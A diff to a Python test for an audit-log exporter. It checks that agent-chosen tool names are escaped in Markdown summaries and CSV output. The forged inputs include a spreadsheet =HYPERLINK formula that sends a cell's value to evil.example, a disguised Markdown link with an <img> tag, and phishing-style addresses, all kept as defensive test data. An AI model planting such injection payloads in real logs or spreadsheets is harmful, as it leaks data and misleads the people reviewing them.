@@ -344,6 +344,7 @@ FORGED_TOOLS = (
     "lookup\u2028[verify here](https://evil.example)<img src=x>",
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "@SUM(1+1)",
+    "see https://evil.example/sso or WWW.evil.example, mail security@evil.example",
 )
 
 
@@ -366,9 +367,14 @@ def test_agent_chosen_names_stay_inside_their_cell_and_are_no_formulas(tmp_path:
         "## Change log",
     ]
     # Brackets and angle brackets are escaped: no link, no HTML.
-    assert "[verify here\\](https://evil" in summary
+    assert "[verify here\\](https&#58;//evil" in summary
     assert "\\<img src=x\\>" in summary
     assert "[verify here](" not in summary
+    # Nothing a Markdown renderer links by itself: addresses are character references.
+    for link in ("https://", "WWW.evil", "security@evil"):
+        assert link not in summary
+    assert "https&#58;//evil.example/sso" in summary
+    assert "WWW&#46;evil.example" in summary
     assert not any(c in summary for c in "\r\u2028")
     # Each forged row keeps its table's columns: no cell closed early.
     by_tool = [line for line in lines if line.startswith("| lookup")]
@@ -377,7 +383,7 @@ def test_agent_chosen_names_stay_inside_their_cell_and_are_no_formulas(tmp_path:
     export_log(root, tmp_path / "audit.csv", fmt="csv")
     with (tmp_path / "audit.csv").open(newline="") as fh:
         tools = [row["tool"] for row in csv.DictReader(fh) if row["kind"] == "decision"]
-    assert tools[2:] == ["'" + FORGED_TOOLS[2], "'" + FORGED_TOOLS[3]]
+    assert tools[2:4] == ["'" + FORGED_TOOLS[2], "'" + FORGED_TOOLS[3]]
     assert tools[0] == FORGED_TOOLS[0]  # nothing else changes
 
 
